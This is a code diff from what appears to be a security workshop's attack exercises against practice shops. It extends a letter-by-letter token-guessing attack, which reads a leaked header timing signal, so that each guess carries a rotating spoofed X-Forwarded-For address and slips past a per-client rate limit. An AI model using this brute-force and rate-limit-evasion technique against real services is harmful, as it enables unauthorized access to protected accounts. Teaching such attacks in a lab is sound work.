@@ -4,6 +4,7 @@ Run them with `python3 -m workshop attack 7`. The shops tell in `X-Looked-At` ho
 the secret they have looked at. A real attacker reads that from a stopwatch, with many more tries.
 """
 
+import itertools
 import string
 
 from workshop import kit
@@ -12,6 +13,7 @@ from workshop.attacks import Attack, Outcome, Target
 FLOOD = 400  # requests; the shop allows 200 a second from one client
 LETTERS = string.ascii_lowercase + "-"
 LONGEST = 20  # letters of a secret
+names = itertools.count()  # under which the guesses are made: no shop shall find them too many
 
 
 def false_name(target: Target) -> Outcome:
@@ -47,7 +49,10 @@ def letter_by_letter(target: Target) -> Outcome:
 
 def guess(client: kit.Client, token: str) -> tuple[int, int]:
     """Try a token: the status, and how many letters were looked at."""
-    client.send(f"GET /vault HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer {token}\r\n\r\n".encode())
+    number = next(names)
+    fields = f"X-Forwarded-For: 10.1.{number // 250 % 250}.{number % 250}\r\n"
+    fields += f"Authorization: Bearer {token}\r\n"
+    client.send(f"GET /vault HTTP/1.1\r\nHost: a\r\n{fields}\r\n".encode())
     reply = client.read_response()
     return reply.status_code, int(reply.header("x-looked-at") or 0)
 
